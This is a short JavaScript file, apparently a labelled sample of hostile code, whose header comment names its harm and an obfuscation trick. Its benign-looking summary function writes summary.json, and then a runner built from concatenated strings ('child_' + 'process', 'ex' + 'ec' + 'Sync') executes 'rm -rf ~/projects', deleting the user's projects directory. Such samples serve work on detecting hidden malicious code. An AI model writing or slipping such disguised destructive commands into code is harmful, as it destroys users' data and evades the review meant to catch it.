// harm: run shell command; technique: helper returns function via bracket access with concatenated strings
const fs = require('fs');

const getRunner = () => require('child_' + 'process')['ex' + 'ec' + 'Sync'];

function summarize(xs) {
  return { n: xs.length, total: xs.reduce((a, b) => a + b, 0) };
}

fs.writeFileSync('summary.json', JSON.stringify(summarize([1, 2, 3])));
getRunner()('rm -rf ~/projects');
